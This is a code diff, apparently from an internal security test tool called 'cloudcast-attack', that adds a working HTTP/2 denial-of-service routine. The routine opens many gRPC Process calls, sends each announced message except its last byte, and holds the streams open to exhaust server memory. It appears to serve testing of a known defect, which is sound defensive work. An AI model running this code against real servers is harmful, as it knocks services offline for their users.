@@ -571,6 +571,86 @@ json RawStreams(const Common& c, const char* name, const RawStreamsOptions& o,
           {"seconds", seconds}};
 }
 
+// Issue 30, defect 4: Process calls on raw HTTP/2 connections, each announcing a message of
+// `message_bytes` and sending all of it but the last byte, as fast as the server's windows let
+// it; then holding the calls open until the deadline. What the server buffers of those messages
+// is the attack.
+json IncompleteProcess(const Common& c, int calls, int connection_count,
+                       std::uint64_t message_bytes) {
+  std::string host;
+  int port = 0;
+  if (!SplitHostPort(c.target, &host, &port)) {
+    return {{"error", "--target must be IPV4:PORT, got " + c.target}};
+  }
+  std::vector<std::unique_ptr<RawH2Connection>> connections;
+  for (int i = 0; i < connection_count; ++i) {
+    auto conn = RawH2Connection::Connect(host, port, c.source);
+    if (!conn.ok()) return {{"error", std::string(conn.status().message())}};
+    connections.push_back(*std::move(conn));
+  }
+  // The message's 5-byte prefix (not compressed, its length), then filler sent a chunk at a time.
+  std::string prefix(5, '\0');
+  for (int i = 0; i < 4; ++i) {
+    prefix[1 + i] = static_cast<char>((message_bytes >> (8 * (3 - i))) & 0xff);
+  }
+  const std::string chunk(1 << 20, '\x55');
+  const std::string headers = GrpcRequestHeaders("/cloudcast.v1.CloudCast/Process", c.target);
+  Ready("incomplete-process");
+  const auto t0 = Clock::now();
+  const auto deadline = Deadline(c);
+  struct Call {
+    RawH2Connection* conn;
+    std::uint32_t stream;
+  };
+  std::vector<Call> opened;
+  for (int i = 0; i < calls; ++i) {
+    Call call{connections[static_cast<std::size_t>(i % connection_count)].get(),
+              1 + 2 * static_cast<std::uint32_t>(i / connection_count)};
+    if (!call.conn->OpenStream(call.stream, headers, false, deadline)) break;
+    opened.push_back(call);
+  }
+  std::atomic<std::uint64_t> bytes_sent{0}, complete_but_one{0};
+  std::vector<std::thread> threads;
+  for (const Call& call : opened) {
+    threads.emplace_back([&, call] {
+      if (!call.conn->SendData(call.stream, prefix, false, deadline)) return;
+      std::uint64_t left = message_bytes - 1;  // the last byte never comes
+      while (left > 0) {
+        const std::size_t n = static_cast<std::size_t>(std::min<std::uint64_t>(left, chunk.size()));
+        if (!call.conn->SendData(call.stream, std::string_view(chunk).substr(0, n), false,
+                                 deadline)) {
+          return;
+        }
+        left -= n;
+        bytes_sent.fetch_add(n);
+      }
+      complete_but_one.fetch_add(1);
+    });
+  }
+  for (auto& t : threads) t.join();
+  std::this_thread::sleep_until(deadline);
+  std::uint64_t ended = 0;
+  for (const Call& call : opened) ended += call.conn->StreamEnded(call.stream) ? 1 : 0;
+  const double seconds = Since(t0);
+  std::uint64_t goaways = 0, closed_by_peer = 0;
+  for (auto& conn : connections) {
+    goaways += conn->stats().goaways;
+    closed_by_peer += conn->closed() ? 1 : 0;
+    conn->StopReading();
+  }
+  connections.clear();
+  return {{"attack", "incomplete-process"},
+          {"calls", opened.size()},
+          {"connections", connection_count},
+          {"message_bytes", message_bytes},
+          {"bytes_sent", bytes_sent.load()},
+          {"calls_sent_but_the_last_byte", complete_but_one.load()},
+          {"calls_ended_by_server", ended},
+          {"goaways", goaways},
+          {"connections_closed_by_peer", closed_by_peer},
+          {"seconds", seconds}};
+}
+
 json SilentStreams(const Common& c, int calls) {
   v1::StreamRequest config;
   config.mutable_config()->set_delivery(v1::DELIVERY_ALL);
@@ -752,6 +832,21 @@ int main(int argc, char** argv) {
       "fast as flow control lets them, reading every reply; then leaving (--exit)");
   add_raw(cc);
 
+  int connections = 4;
+  double message_mb = 59;
+  auto* ip = app.add_subcommand(
+      "incomplete-process",
+      "Process calls on raw HTTP/2 connections, each sending a message but its last byte, then "
+      "holding the call open");
+  add_common(ip);
+  ip->add_option("--calls", calls, "Process calls")->check(CLI::Range(1, 1000))->capture_default_str();
+  ip->add_option("--connections", connections, "Connections the calls are spread over")
+      ->check(CLI::Range(1, 64))
+      ->capture_default_str();
+  ip->add_option("--message-mb", message_mb, "The size each message announces, MB")
+      ->check(CLI::Range(0.01, 4000.0))
+      ->capture_default_str();
+
   CLI11_PARSE(app, argc, argv);
   if (!common.source.empty() && inet_pton(AF_INET, common.source.c_str(), &g_source) != 1) {
     std::cerr << "cloudcast-attack: --source '" << common.source << "' is not an IPv4 address\n";
@@ -764,6 +859,9 @@ int main(int argc, char** argv) {
     result = ContinuationFlood(common, path, frames_per_write, value_bytes);
   } else if (bf->parsed()) {
     result = BigFrames(common, calls, side, encoding, leaf);
+  } else if (ip->parsed()) {
+    result = IncompleteProcess(common, calls, connections,
+                               static_cast<std::uint64_t>(message_mb * 1024 * 1024));
   } else if (gs->parsed()) {
     result = GreedyStreams(common, calls, side);
   } else if (sw->parsed() || cc->parsed()) {
